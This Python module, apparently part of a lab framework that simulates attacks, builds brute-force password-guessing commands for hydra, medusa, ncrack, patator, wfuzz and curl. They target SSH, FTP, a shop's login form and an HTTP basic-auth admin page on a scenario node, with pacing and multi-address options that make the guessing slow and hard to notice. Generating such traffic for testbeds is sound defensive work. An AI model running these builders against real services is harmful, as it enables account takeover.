"""Guessing of passwords: SSH and FTP of the node, the shop's form and its back room.

Owns: command lines of the tools; how many words there are, and how fast they are tried. Refuses: to know the right
word.
"""

from __future__ import annotations

from attacks.base import (
    SHOP, TELLING, USER, AttackSpec, Hosts, Program, Scene, asked, json_lines, passwords, url, wfuzz,
)
from scenario import tool

FORM = "/login:user=^USER^&password=^PASS^:F=wrong"
BACK_ROOM = "/admin/"


def hydra(scene: Scene, words: int, tasks: int, wait_s: int, *target: str) -> list[Program]:
    """hydra with so many tasks; with `wait_s` each waits between two tries."""
    slower = ("-W", str(wait_s), "-c", str(wait_s)) if wait_s else ()
    # vsftpd takes three seconds to say no, and sshd says nothing after the third. With -c only one task may run.
    patience = "3" if target[0].startswith("ssh") else "8"
    return [Program(("hydra", "-I", "-w", patience, "-t", str(1 if wait_s else tasks), *slower, "-l", USER,
                     "-P", str(passwords(scene, words)), "-o", "hydra.txt", *target))]


def medusa(scene: Scene, words: int, tasks: int, module: str, *more: str) -> list[Program]:
    """medusa, which keeps a connection for several tries where the service lets it."""
    return [Program(("medusa", "-h", scene.plan.node, "-u", USER, "-P", str(passwords(scene, words)), "-t", str(tasks),
                     "-M", module, *more))]


def ncrack(scene: Scene, words: int, connections: int, delay_ms: int, target: str) -> list[Program]:
    """ncrack with a fixed number of connections at most."""
    pace = f"CL={connections},cl={connections},at=3" + (f",cd={delay_ms}ms" if delay_ms else "")
    return [Program(("ncrack", "-T3", "-v", "--user", USER, "-P", str(passwords(scene, words)), "-g", pace, target))]


def patator(scene: Scene, words: int, threads: int, pause_s: float, module: str, *more: str) -> list[Program]:
    """patator; each thread waits `pause_s` before a try."""
    slower = ("--rate-limit", str(pause_s)) if pause_s else ()
    return [Program(("patator", module, *more, f"0={passwords(scene, words)}", "--threads", str(threads), *slower))]


@tool("guess-ssh", "hydra")
def ssh_hydra(scene: Scene, _: AttackSpec, __: Hosts, *, words: int, tasks: int = 4, wait_s: int = 0) -> list[Program]:
    """Passwords of the node."""
    return hydra(scene, words, tasks, wait_s, f"ssh://{scene.plan.node}")


@tool("guess-ssh", "medusa")
def ssh_medusa(scene: Scene, _: AttackSpec, __: Hosts, *, words: int, tasks: int = 2) -> list[Program]:
    """Passwords of the node."""
    return medusa(scene, words, tasks, "ssh")


@tool("guess-ssh", "ncrack")
def ssh_ncrack(
    scene: Scene, _: AttackSpec, __: Hosts, *, words: int, connections: int = 4, delay_ms: int = 0
) -> list[Program]:
    """Passwords of the node."""
    return ncrack(scene, words, connections, delay_ms, f"ssh://{scene.plan.node}")


@tool("guess-ssh", "patator")
def ssh_patator(
    scene: Scene, _: AttackSpec, __: Hosts, *, words: int, threads: int = 3, pause_s: float = 0.0
) -> list[Program]:
    """Passwords of the node."""
    return patator(scene, words, threads, pause_s, "ssh_login", f"host={scene.plan.node}", f"user={USER}",
                   "password=FILE0")


@tool("guess-ftp", "hydra")
def ftp_hydra(scene: Scene, _: AttackSpec, __: Hosts, *, words: int, tasks: int = 6, wait_s: int = 0) -> list[Program]:
    """Passwords of the node's files."""
    return hydra(scene, words, tasks, wait_s, f"ftp://{scene.plan.node}")


@tool("guess-ftp", "medusa")
def ftp_medusa(scene: Scene, _: AttackSpec, __: Hosts, *, words: int, tasks: int = 4) -> list[Program]:
    """Passwords of the node's files."""
    return medusa(scene, words, tasks, "ftp")


@tool("guess-ftp", "ncrack")
def ftp_ncrack(
    scene: Scene, _: AttackSpec, __: Hosts, *, words: int, connections: int = 5, delay_ms: int = 0
) -> list[Program]:
    """Passwords of the node's files."""
    return ncrack(scene, words, connections, delay_ms, f"ftp://{scene.plan.node}")


@tool("guess-ftp", "curl")
def ftp_curl(scene: Scene, _: AttackSpec, __: Hosts, *, words: int, a_minute: int) -> list[Program]:
    """A patient script: one connection a guess, so many a minute."""
    return [Program(("curl", "-s", *TELLING, "--rate", f"{a_minute}/m",
                     f"ftp://{USER}:{scene.rng.choice(('summer', 'river', 'winter'))}-[1-{words}]@{scene.plan.node}/"))]


@tool("guess-form", "hydra")
def form_hydra(scene: Scene, _: AttackSpec, __: Hosts, *, words: int, tasks: int = 4, wait_s: int = 0) -> list[Program]:
    """The shop's log-in form."""
    return hydra(scene, words, tasks, wait_s, scene.plan.node, "http-post-form", FORM)


@tool("guess-form", "patator")
def form_patator(
    scene: Scene, _: AttackSpec, __: Hosts, *, words: int, threads: int = 3, pause_s: float = 0.0
) -> list[Program]:
    """The shop's log-in form over connections that are kept."""
    return patator(scene, words, threads, pause_s, "http_fuzz", f"url={url(scene, '/login')}", "method=POST",
                   f"body=user={USER}&password=FILE0", f"resolve={SHOP}:{scene.plan.node}")


@tool("guess-form", "wfuzz")
def form_wfuzz(
    scene: Scene, _: AttackSpec, __: Hosts, *, words: int, threads: int = 2, pause_s: float = 0.0
) -> list[Program]:
    """The shop's log-in form."""
    return wfuzz(passwords(scene, words), threads, pause_s, "-d", f"user={USER}&password=FUZZ", url(scene, "/login"))


@tool("guess-form", "script")
def form_script(scene: Scene, _: AttackSpec, hosts: Hosts, *, words: int, rate: float, keep: bool = False,
                users: int = 1, tls: bool = False) -> list[Program]:
    """A script from all addresses in turn; with many `users` few guesses for each."""
    rows = [{"method": "POST", "target": "/login", "body": f"user={user(number, users)}&password={word}"}
            for number, word in enumerate(passwords(scene, words).read_text().split())]
    return script(scene, hosts, rows, rate, keep, tls)


@tool("guess-basic", "hydra")
def basic_hydra(
    scene: Scene, _: AttackSpec, __: Hosts, *, words: int, tasks: int = 4, wait_s: int = 0
) -> list[Program]:
    """The shop's back room."""
    return hydra(scene, words, tasks, wait_s, f"http-get://{scene.plan.node}{BACK_ROOM}")


@tool("guess-basic", "medusa")
def basic_medusa(scene: Scene, _: AttackSpec, __: Hosts, *, words: int, tasks: int = 3) -> list[Program]:
    """The shop's back room."""
    return medusa(scene, words, tasks, "http", "-m", f"DIR:{BACK_ROOM}")


@tool("guess-basic", "ncrack")
def basic_ncrack(
    scene: Scene, _: AttackSpec, __: Hosts, *, words: int, connections: int = 4, delay_ms: int = 0
) -> list[Program]:
    """The shop's back room."""
    return ncrack(scene, words, connections, delay_ms, f"http://{scene.plan.node}:80,path={BACK_ROOM}")


@tool("guess-basic", "curl")
def basic_curl(scene: Scene, _: AttackSpec, __: Hosts, *, words: int, a_minute: int) -> list[Program]:
    """A patient script: one connection a guess, so many a minute."""
    return [Program(("curl", "-s", *TELLING, "-o", "/dev/null", "--rate", f"{a_minute}/m", "-H", "Connection: close",
                     f"http://{USER}:gate-[1-{words}]@{scene.plan.node}{BACK_ROOM}"))]


@tool("guess-basic", "script")
def basic_script(scene: Scene, _: AttackSpec, hosts: Hosts, *, words: int, rate: float, keep: bool = False,
                 users: int = 1, tls: bool = False) -> list[Program]:
    """A script from all addresses in turn."""
    rows = [{"method": "GET", "target": BACK_ROOM, "user": user(number, users), "password": word}
            for number, word in enumerate(passwords(scene, words).read_text().split())]
    return script(scene, hosts, rows, rate, keep, tls)


def user(number: int, users: int) -> str:
    """One of so many users."""
    return USER if users == 1 else f"user{number % users}"


def script(scene: Scene, hosts: Hosts, rows: list[dict[str, str]], rate: float, keep: bool, tls: bool) -> list[Program]:
    """Each row once."""
    return asked(scene, hosts, json_lines(scene, "guesses", rows), len(rows), rate, keep=keep, tls=tls)
